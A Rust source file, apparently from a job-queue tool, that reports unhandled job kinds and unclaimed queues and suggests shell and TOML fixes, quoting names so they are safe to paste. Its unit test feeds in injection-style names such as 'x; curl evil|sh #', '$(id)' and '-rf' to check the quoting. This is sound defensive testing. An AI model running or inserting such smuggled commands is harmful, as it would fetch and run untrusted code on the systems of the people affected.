//! What is said of work that nobody does.

use std::collections::BTreeMap;
use std::time::Duration;

use steadfast::jobs::{self, COUNT_CAP, Jobs, Unhandled};

use crate::process::status::harmless;

/// Finds kinds that no node has handled for `after`, by their names, but for those that are handled here.
pub(crate) async fn unhandled(
    jobs: &Jobs,
    after: Duration,
    is_handled: impl Fn(&str) -> bool,
) -> Result<BTreeMap<String, Unhandled>, jobs::Error> {
    let mut found = jobs.unhandled(after).await?;
    found.retain(|kind, _| !is_handled(kind));
    Ok(found)
}

/// Finds queues that no node has claimed from for `after`, by their names, with how many jobs of them are due, but for those
/// that are claimed from here.
pub(crate) async fn unserved(
    jobs: &Jobs,
    after: Duration,
    is_served: impl Fn(&str) -> bool,
) -> Result<BTreeMap<String, u64>, jobs::Error> {
    let mut found = jobs.unserved(after).await?;
    found.retain(|queue, _| !is_served(queue));
    Ok(found)
}

/// Says what becomes of a queue that no node has claimed from, with how many jobs of it are due.
pub(crate) fn says_of_queue(queue: &str, jobs: u64) -> String {
    let jobs = match jobs {
        1 => "1 job of it waits".to_owned(),
        COUNT_CAP.. => format!("{COUNT_CAP} jobs of it wait, or more"),
        jobs => format!("{jobs} jobs of it wait"),
    };
    format!("no node claims from the queue {}: {jobs}", harmless(queue))
}

/// Says what to do about it.
pub(crate) fn fix_of_queue(queue: &str) -> String {
    let (key, queue) = (key(queue), word(queue));
    format!(
        "start the node that has it, or add [queues.{key}] with a handler of it, or `steadfast jobs cancel --all --state pending --queue {queue} --reason WHY`"
    )
}

/// Says what becomes of a kind.
pub(crate) fn says(kind: &str, of_kind: &Unhandled) -> String {
    let makes = match &of_kind.schedules[..] {
        [] => String::new(),
        names => format!(", and more are made by the schedule {}", names.join(", ")),
    };
    let jobs = match of_kind.jobs {
        1 => "1 job of it waits".to_owned(),
        jobs => format!("{jobs} jobs of it wait"),
    };
    format!(
        "no node has a handler of the kind {}: {jobs}{makes}",
        harmless(kind)
    )
}

/// Says what to do about it.
pub(crate) fn fix(kind: &str, of_kind: &Unhandled) -> String {
    let schedules = of_kind.schedules.iter();
    let delete: String = schedules
        .map(|name| {
            format!(
                ", or `steadfast schedules delete {} --reason WHY`",
                word(name)
            )
        })
        .collect();
    let cancel = match of_kind.jobs {
        0 => String::new(),
        _ => format!(
            ", and `steadfast jobs cancel --all --state pending --kind {} --reason WHY` for those that wait",
            word(kind)
        ),
    };
    format!(
        "start the node that has it, or add [handlers.{}]{delete}{cancel}",
        key(kind)
    )
}

/// A name as a word of a shell: whoever may enqueue chooses it, and somebody else pastes the line.
fn word(name: &str) -> String {
    match is_plain(name) {
        true => name.to_owned(),
        false => format!("'{}'", harmless(name).replace('\'', r"'\''")),
    }
}

/// A name as a key of TOML.
fn key(name: &str) -> String {
    match is_plain(name) && !name.contains(['.', '/', ':']) {
        true => name.to_owned(),
        false => serde_json::Value::from(harmless(name)).to_string(),
    }
}

fn is_plain(name: &str) -> bool {
    let is_plain = |char: char| char.is_ascii_alphanumeric() || "-_./:".contains(char);
    !name.is_empty() && !name.starts_with('-') && name.chars().all(is_plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_that_is_pasted_runs_no_name() {
        let check = |name: &str, in_shell: &str, in_toml: &str| {
            assert_eq!((word(name), key(name)), (in_shell.into(), in_toml.into()));
        };

        check("mail", "mail", "mail");
        check("mail.de", "mail.de", r#""mail.de""#);
        check(
            "x; curl evil|sh #",
            "'x; curl evil|sh #'",
            r##""x; curl evil|sh #""##,
        );
        check("it's $(id)", r"'it'\''s $(id)'", r#""it's $(id)""#);
        check("-rf", "'-rf'", r#""-rf""#);
    }
}
